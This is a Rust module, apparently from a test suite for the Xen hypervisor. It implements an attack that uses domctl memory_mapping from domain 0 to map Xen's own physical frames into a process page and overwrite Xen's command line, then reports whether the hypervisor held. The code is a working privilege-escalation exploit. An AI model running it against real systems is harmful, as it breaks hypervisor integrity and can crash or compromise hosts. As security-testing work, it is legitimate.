//! Any machine frame as device memory of domain 0: a page of the process becomes a page of Xen.

use std::time::{Duration, Instant};

use anyhow::{Result, bail};

use super::{Attack, Level};
use crate::calls::{domain, memory, number};
use crate::layout::MemoryMapping;
use crate::outcome::{Outcome, breached, held, not_applicable};
use crate::witness::{frame_of_own, guest_page_works, is_pv};
use crate::xen::{Buffer, PAGE, Privcmd};

pub(super) const ATTACK: Attack = Attack {
    id: "memory-mapping-self",
    rule: "B3",
    level: Level::Integrity,
    summary: "domctl(memory_mapping) puts a frame of Xen itself behind a page of the process",
    needs: "privcmd; a PVH domain 0; Xen tells its symbols",
    observed: "Xen's command line, as xen_version tells it, is what was written into the process's own page",
    healthy: false,
    timeout_s: 180,
    run,
    twin: || guest_page_works(&Privcmd::open()?),
};

const MEMORY_MAPPING: u32 = 39;
/// Xen's image begins here in its own address space, on x86-64.
const XEN_START: u64 = 0xffff_82d0_4000_0000;
/// Xen's image lies on such a boundary in physical memory.
const STEP: u64 = 1 << 21;
/// Killed in the middle, the attack would leave a hole in the kernel's memory.
const PATIENCE: Duration = Duration::from_secs(30);

fn run() -> Outcome {
    let privcmd = Privcmd::open()?;
    if is_pv()? {
        let answer = map(&privcmd, 0x1_0000, 0x1_0000, true).map(|_| "done");
        return held(format!("memory_mapping answered {answer:?}, but a paravirtual domain 0 has no such map"));
    }
    let known = privcmd.command_line()?;
    if known.len() < 16 {
        return not_applicable("Xen's command line is too short to be recognized");
    }
    let Some(address) = super::xen_symbol::find(&privcmd, "saved_cmdline")? else {
        return not_applicable("Xen does not tell where its command line is");
    };
    let page = Buffer::new(1)?;
    let frame = frame_of_own(page.address())?;
    // The page behind the process's memory goes; what is mapped in its place is seen through it.
    if let Err(error) = privcmd.reservation(memory::DECREASE_RESERVATION, domain::SELF, &[frame]) {
        // A guard keeps the page where it is; whether the mapping itself is refused is asked all the same.
        let refused = map(&privcmd, frame, address / PAGE as u64, true);
        return match refused {
            Err(mapping) => held(format!("the page cannot be given back: {error:#}; memory_mapping: {mapping:#}")),
            Ok(()) => bail!("the page cannot be given back: {error:#}; and memory_mapping answered that it is done"),
        };
    }
    let found = search(&privcmd, &page, frame, address - XEN_START, &known);
    let filled = privcmd.reservation(memory::POPULATE_PHYSMAP, domain::SELF, &[frame]);
    match found {
        Ok(Found::Changed(seen)) => breached(format!("{seen}; refilled: {filled:?}")),
        Ok(Found::Not { tried, refusal }) => {
            let refusal = refusal.unwrap_or_else(|| "nothing was refused".to_owned());
            held(format!("no frame of Xen was mapped in {tried} places, last: {refusal}; refilled: {filled:?}"))
        }
        Err(error) => held(format!("memory_mapping: {error:#}; refilled: {filled:?}")),
    }
}

/// Where Xen's image can begin: in the machine's memory below four gibibytes, the highest first, because Xen moves
/// itself as high as it can.
fn bases(privcmd: &Privcmd) -> Result<Vec<u64>> {
    const MACHINE_MEMORY_MAP: u64 = 10;
    const RAM: u32 = 1;
    /// Bytes of one entry: address, size, kind.
    const ENTRY: usize = 20;
    let entries = Buffer::new(1)?;
    let request = Buffer::new(1)?;
    request.put(0, &(PAGE / ENTRY));
    request.put(8, &entries.address());
    privcmd.hypercall(number::MEMORY_OP, [MACHINE_MEMORY_MAP, request.address(), 0, 0, 0])?;
    let mut bases = Vec::new();
    for index in 0..usize::try_from(request.get::<u32>(0))? {
        let (start, size) = (entries.get::<u64>(index * ENTRY), entries.get::<u64>(index * ENTRY + 8));
        if entries.get::<u32>(index * ENTRY + 16) == RAM && start < 1 << 32 {
            let last = start.saturating_add(size).min(1 << 32) / STEP;
            bases.extend((start / STEP..last).map(|base| base * STEP));
        }
    }
    bases.sort_unstable();
    bases.reverse();
    Ok(bases)
}

/// What the search came to.
enum Found {
    /// Xen's memory was changed, as told.
    Changed(String),
    /// It was not, in so many places; the last refusal.
    Not { tried: usize, refusal: Option<String> },
}

fn search(privcmd: &Privcmd, page: &Buffer, frame: u64, place: u64, known: &[u8]) -> Result<Found> {
    let offset = usize::try_from(place % PAGE as u64)?;
    let length = known.len().min(PAGE - offset);
    let begin = Instant::now();
    let (mut tried, mut refusal) = (0, None);
    for base in bases(privcmd)? {
        if begin.elapsed() > PATIENCE {
            bail!("Xen was not found in {} s", PATIENCE.as_secs());
        }
        let machine = (base + place) / PAGE as u64;
        tried += 1;
        if let Err(error) = map(privcmd, frame, machine, true) {
            refusal = Some(format!("{error:#}"));
            continue;
        }
        if page.read(offset, length).as_slice() == known.get(..length).unwrap_or_default() {
            let byte = known.first().copied().unwrap_or_default();
            page.write(offset, &[byte ^ 0x20]);
            let changed = privcmd.command_line()?;
            page.write(offset, &[byte]);
            let back = privcmd.command_line()? == known;
            map(privcmd, frame, machine, false)?;
            let told = format!(
                "machine frame {machine:#x} is Xen's; its command line became {:?}, and {} put back",
                String::from_utf8_lossy(changed.get(..16).unwrap_or_default()),
                if back { "was" } else { "was not" }
            );
            if changed != known {
                return Ok(Found::Changed(told));
            }
            return Ok(Found::Not { tried, refusal: Some(told) });
        }
        map(privcmd, frame, machine, false)?;
    }
    Ok(Found::Not { tried, refusal })
}

fn map(privcmd: &Privcmd, frame: u64, machine_frame: u64, add: bool) -> Result<()> {
    let request = MemoryMapping { frame, machine_frame, number: 1, add: u32::from(add), padding: 0 };
    privcmd.domctl(MEMORY_MAPPING, 0, &request)?;
    Ok(())
}
